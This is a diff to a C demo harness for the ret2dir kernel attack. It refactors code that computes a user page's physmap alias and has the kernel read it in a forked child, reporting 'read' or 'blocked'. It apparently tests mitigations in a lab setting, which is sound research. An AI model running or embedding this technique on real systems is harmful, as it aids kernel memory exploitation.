@@ -85,23 +85,48 @@ static int kernel_read(uint64_t kaddr, uint64_t *val)
 	return 0;
 }
 
-/*
- * Plant `payload` at `addr` (already written by the caller), then make the
- * kernel read it back in a child process, so that an oops kills only the
- * child. Prints one RESULT line.
- */
+static int read_alias(const char *variant, uint64_t alias, uint64_t payload);
+
+/* `payload` is at `addr` (written by the caller): read it through its alias. */
 static int attack(const char *variant, volatile uint64_t *addr, uint64_t payload)
 {
 	uint64_t base = read_hex_file(DEMO_DIR "/page_offset");
 	uint64_t pfn = pfn_of((void *)addr);
 	uint64_t alias = base + pfn * PAGE + ((uintptr_t)addr % PAGE);
+
+	printf("ret2dir[%s]: user wrote 0x%" PRIx64 " at %p, pfn 0x%" PRIx64
+	       ", physmap alias 0x%" PRIx64 "\n", variant, payload, (void *)addr, pfn, alias);
+	return read_alias(variant, alias, payload);
+}
+
+#ifndef MADV_SOFT_OFFLINE
+#define MADV_SOFT_OFFLINE 101
+#endif
+
+/*
+ * Read the alias of a frame the payload used to live in: the process no
+ * longer maps it, so its pfn is given, not looked up.
+ */
+static int attack_pfn(const char *variant, uint64_t pfn, unsigned long off, uint64_t payload)
+{
+	uint64_t alias = read_hex_file(DEMO_DIR "/page_offset") + pfn * PAGE + off;
+
+	printf("ret2dir[%s]: user wrote 0x%" PRIx64 " in pfn 0x%" PRIx64
+	       " before it moved, physmap alias 0x%" PRIx64 "\n", variant, payload, pfn, alias);
+	return read_alias(variant, alias, payload);
+}
+
+/*
+ * Make the kernel read 8 bytes at @alias in a child process, so that an
+ * oops kills only the child. Prints one RESULT line.
+ */
+static int read_alias(const char *variant, uint64_t alias, uint64_t payload)
+{
 	int pipefd[2], status;
 	uint64_t got = 0;
 	ssize_t n;
 	pid_t pid;
 
-	printf("ret2dir[%s]: user wrote 0x%" PRIx64 " at %p, pfn 0x%" PRIx64
-	       ", physmap alias 0x%" PRIx64 "\n", variant, payload, (void *)addr, pfn, alias);
 	fflush(stdout);
 	if (pipe(pipefd))
 		return 2;
@@ -135,52 +160,6 @@ static int attack(const char *variant, volatile uint64_t *addr, uint64_t payload
 		       variant, status);
 	}
 	fflush(stdout);
-	return 0;
-}
-
-#ifndef MADV_SOFT_OFFLINE
-#define MADV_SOFT_OFFLINE 101
-#endif
-
-/*
- * Read the alias of a frame the payload used to live in: the process no
- * longer maps it, so its pfn is given, not looked up.
- */
-static int attack_pfn(const char *variant, uint64_t pfn, unsigned long off, uint64_t payload)
-{
-	uint64_t base = read_hex_file(DEMO_DIR "/page_offset");
-	uint64_t alias = base + pfn * PAGE + off;
-	int pipefd[2], status;
-	uint64_t got = 0;
-	ssize_t n;
-	pid_t pid;
-
-	printf("ret2dir[%s]: user wrote 0x%" PRIx64 " in pfn 0x%" PRIx64
-	       " before it moved, physmap alias 0x%" PRIx64 "\n", variant, payload, pfn, alias);
-	if (pipe(pipefd))
-		return 2;
-	pid = fork();
-	if (pid == 0) {
-		uint64_t v;
-
-		close(pipefd[0]);
-		if (kernel_read(alias, &v) || write(pipefd[1], &v, sizeof(v)) != sizeof(v))
-			_exit(3);
-		_exit(0);
-	}
-	close(pipefd[1]);
-	n = read(pipefd[0], &got, sizeof(got));
-	close(pipefd[0]);
-	waitpid(pid, &status, 0);
-	if (n == sizeof(got) && WIFEXITED(status) && WEXITSTATUS(status) == 0)
-		printf("RESULT {\"variant\": \"%s\", \"outcome\": \"read\", \"wrote\": \"0x%" PRIx64
-		       "\", \"read\": \"0x%" PRIx64 "\"}\n", variant, payload, got);
-	else if (WIFSIGNALED(status))
-		printf("RESULT {\"variant\": \"%s\", \"outcome\": \"blocked\", \"wrote\": \"0x%" PRIx64
-		       "\", \"signal\": %d}\n", variant, payload, WTERMSIG(status));
-	else
-		printf("RESULT {\"variant\": \"%s\", \"outcome\": \"error\", \"status\": %d}\n",
-		       variant, status);
 	return 0;
 }
 
